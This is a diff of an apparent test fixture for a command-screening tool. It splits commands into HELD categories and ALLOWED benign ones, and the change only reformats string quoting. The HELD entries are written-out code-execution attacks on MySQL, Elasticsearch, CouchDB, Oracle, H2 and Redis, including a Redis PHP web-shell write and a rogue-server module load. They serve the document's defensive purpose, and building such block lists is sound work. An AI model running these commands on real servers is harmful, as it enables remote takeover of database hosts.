@@ -42,16 +42,16 @@ HELD = {
     ],
     "server-runs-code": [
         "mysql -uroot -e \"select 0x7f454c46 into dumpfile '/tmp/lib_mysqludf_sys.so'\"",
-        "curl -s -XPOST http://172.16.0.9:9200/idx/_search -d '{\"script_fields\":{\"a\":{\"script\":"
-        "\"new java.lang.ProcessBuilder(\\\"id\\\").start()\"}}}'",
+        'curl -s -XPOST http://172.16.0.9:9200/idx/_search -d \'{"script_fields":{"a":{"script":'
+        '"new java.lang.ProcessBuilder(\\"id\\").start()"}}}\'',
         "curl -X PUT http://172.16.0.9:5984/_config/query_servers/x -d '\"/usr/bin/id\"'",
         "./odat.py java -s 172.16.0.3 -U scott -P tiger -d ORCL --exec /bin/id",
         "python3 ./redis-rogue-server.py --rhost 172.16.0.4 --lhost 172.16.0.200",
-        "java -cp h2.jar org.h2.tools.Shell -url jdbc:h2:tcp://172.16.0.5/~/db -sql \"CREATE ALIAS R AS "
-        "$$ String r(String c) throws Exception { Runtime.getRuntime().exec(c); return c; } $$\"",
+        'java -cp h2.jar org.h2.tools.Shell -url jdbc:h2:tcp://172.16.0.5/~/db -sql "CREATE ALIAS R AS '
+        '$$ String r(String c) throws Exception { Runtime.getRuntime().exec(c); return c; } $$"',
         "sqlplus system/x@172.16.0.3/ORCL <<'EOF'\nCREATE OR REPLACE AND COMPILE JAVA SOURCE NAMED \"H\" AS"
         " public class H { public static void r(String c) throws Exception {"
-        " new ProcessBuilder(\"sh\", \"-c\", c).start(); } }\n/\nEOF",
+        ' new ProcessBuilder("sh", "-c", c).start(); } }\n/\nEOF',
     ],
     "redis-page-code": [
         "redis-cli -h 172.16.0.4 hset k f '<?= `$_GET[0]`; ?>'",
@@ -66,7 +66,7 @@ ALLOWED = [
     "echo \"COPY t FROM '/tmp/import.csv' CSV\" | psql -d app_dev",
     "psql -d app_dev -c \"COPY (SELECT 'it''s; fine') TO '/tmp/out.csv'\"",
     "redis-cli -h localhost hset user:1 name alice",
-    "curl -s http://localhost:9200/_search -d '{\"query\":{\"match\":{\"title\":\"ProcessBuilder docs\"}}}'",
+    'curl -s http://localhost:9200/_search -d \'{"query":{"match":{"title":"ProcessBuilder docs"}}}\'',
     "java -cp h2.jar org.h2.tools.Shell -url jdbc:h2:./data/app -sql 'select * from users'",
     "java -jar app.jar --spring.profiles.active=dev",
     "mysql -u root app -e \"LOAD DATA LOCAL INFILE 'fixtures/a.csv' INTO TABLE a\"",
